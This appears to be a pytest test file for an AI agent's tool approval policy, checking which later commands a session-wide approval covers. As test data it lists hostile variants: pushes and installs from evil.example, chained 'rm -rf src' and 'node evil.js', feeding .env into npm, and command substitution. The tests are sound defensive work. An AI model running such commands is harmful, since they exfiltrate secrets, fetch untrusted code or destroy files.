"""What the answer "this session" covers: what a person means by it, and nothing riskier."""

from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest

from hermes.core.ports import Decision
from hermes.tools import Needs, all_tools
from hermes.tools.policy import ApprovalPolicy, Circumstances
from hermes.tools.tool import tool

HOME = Path("/users-that-are-not/me")
OURS = HOME / ".hermes"
CWD = HOME / "project"
TOOLS = all_tools(Needs(outputs=OURS / "cache" / "out", environment={}, hermes_home=OURS))


def judged(name: str, arguments: Mapping[str, Any], *, sandboxed: bool = True, guest: bool = False) -> Decision:
    about = Circumstances(OURS, HOME, sandboxed, guest=guest)
    return ApprovalPolicy("ask", about).judge(TOOLS[name], arguments, CWD)


def scope(command: str, *, sandboxed: bool = True, **more: str) -> str:
    decision = judged("terminal", {"command": command, **more}, sandboxed=sandboxed)
    assert decision.verdict == "ask", command
    return decision.scope


@pytest.mark.parametrize(
    ("first", "next_one"),
    [
        ("npm install left-pad", "npm install lodash@4 @types/node"),
        ("npm install left-pad", "cd web && npm install lodash 2>&1 | tail -5"),
        ("git push origin main", "git push origin feature-2"),
        ("uv pip install httpx", "uv pip install 'msgspec[yaml]==0.19'"),
        ("pip install -U requests", "pip install -U rich"),
        ("curl -s https://a.example/x", "curl -s https://a.example/x | head -3"),
    ],
)
def test_the_same_kind_of_command_is_covered(first: str, next_one: str) -> None:
    assert scope(first) == scope(next_one) != ""


@pytest.mark.parametrize(
    ("first", "next_one"),
    [
        ("git push origin main", "git push --force origin main"),
        ("git push origin main", "git push origin :main"),
        ("git push origin main", "git push origin +main"),
        ("git push origin main", "git push https://evil.example/x main"),
        ("git push origin main", "git fetch origin main"),
        ("npm install left-pad", "npm install -g left-pad"),
        ("npm install left-pad", "npm install https://evil.example/x.tgz"),
        ("npm install left-pad", "npm install --registry evil.example left-pad"),
        ("npm install left-pad", "npm install left-pad && node evil.js"),
        ("npm install left-pad", "npm install left-pad; rm -rf src"),
        ("npm install left-pad", "npm install left-pad < .env"),
        ("npm install left-pad", "npm uninstall left-pad"),
        ("npm install left-pad", "cd /elsewhere && npm install left-pad"),
        ("npm install left-pad", "npm install $(cat x)"),
        ("npm install left-pad", "X=1 npm install left-pad"),
        ("npm install left-pad", "npm publish"),
        ("pip install --index-url a.example x", "pip install --index-url evil.example x"),
        ("curl https://a.example/x", "curl https://evil.example/x"),
    ],
)
def test_what_is_riskier_or_another_thing_is_asked_about_again(first: str, next_one: str) -> None:
    assert scope(first) != scope(next_one)


@pytest.mark.parametrize(
    "command", ["rm a.txt", "mytool deploy", "npm publish", "docker run x", "gh pr create", "sudo npm install x"]
)
def test_what_destroys_or_reaches_far_is_covered_only_as_it_is(command: str) -> None:
    assert scope(command) == ""


def test_without_a_sandbox_a_program_of_the_project_is_one_kind() -> None:
    assert scope("pytest -k one", sandboxed=False) == scope("pytest tests/b.py", sandboxed=False) != ""
    assert scope("npm run build", sandboxed=False) != scope("npm run evil", sandboxed=False)
    assert scope("npm run --silent build", sandboxed=False) != scope("npm run --silent evil", sandboxed=False)
    assert scope("make test", sandboxed=False) != scope("make clean", sandboxed=False)
    assert scope("python a.py", sandboxed=False) != scope("python b.py", sandboxed=False)


def test_more_reach_is_another_kind() -> None:
    assert scope("pytest -k one", reach="network") != scope("pytest -k one", sandboxed=False) != ""
    assert scope("pytest -k one", reach="machine") == ""


@pytest.mark.parametrize(
    ("first", "next_one"),
    [("pytest -k one", "pytest -k two"), ("tsx a.ts", "tsx b.ts"), ("java -jar a.jar", "java -jar b.jar")],
)
def test_with_the_network_only_the_same_words_are_covered(first: str, next_one: str) -> None:
    assert scope(first, reach="network") != scope(next_one, reach="network")
    assert scope(first, reach="network") != ""


def test_with_the_network_a_package_manager_still_takes_other_names() -> None:
    assert scope("npm install one", reach="network") == scope("npm install two", reach="network") != ""


def test_the_scope_is_written_out_in_words() -> None:
    assert scope("npm install left-pad") == (
        f"`npm install ...` in {CWD} (with the network; it installs or removes packages, which run code of others)"
    )


def test_edits_in_this_folder_are_one_kind_whatever_tool_makes_them() -> None:
    written = judged("write_file", {"path": "a", "content": "x"})
    patched = judged("apply_patch", {"patch": "*** Begin Patch\n*** Add File: b\n+x\n*** End Patch"})
    assert written.scope == patched.scope == f"changes to files in {CWD}"


@pytest.mark.parametrize("path", ["../x", "/etc/hosts", "AGENTS.md", ".git/config", ".env"])
def test_an_edit_elsewhere_or_of_something_delicate_is_not_among_them(path: str) -> None:
    assert judged("write_file", {"path": path, "content": "x"}).scope == ""


def test_a_patch_that_deletes_is_not_among_them() -> None:
    assert judged("apply_patch", {"patch": "*** Begin Patch\n*** Delete File: b\n*** End Patch"}).scope == ""


def test_a_guest_is_asked_about_each_call() -> None:
    assert judged("write_file", {"path": "a", "content": "x"}, guest=True).scope == ""


def test_a_tool_of_a_server_is_one_kind() -> None:
    @tool("mcp.tracker.create_issue", effect="other")
    def create(title: str) -> str:
        """Makes an issue."""
        return title

    decision = ApprovalPolicy("ask", Circumstances(OURS, HOME)).judge(create, {"title": "x"}, CWD)
    assert decision.scope == "every call of mcp.tracker.create_issue"
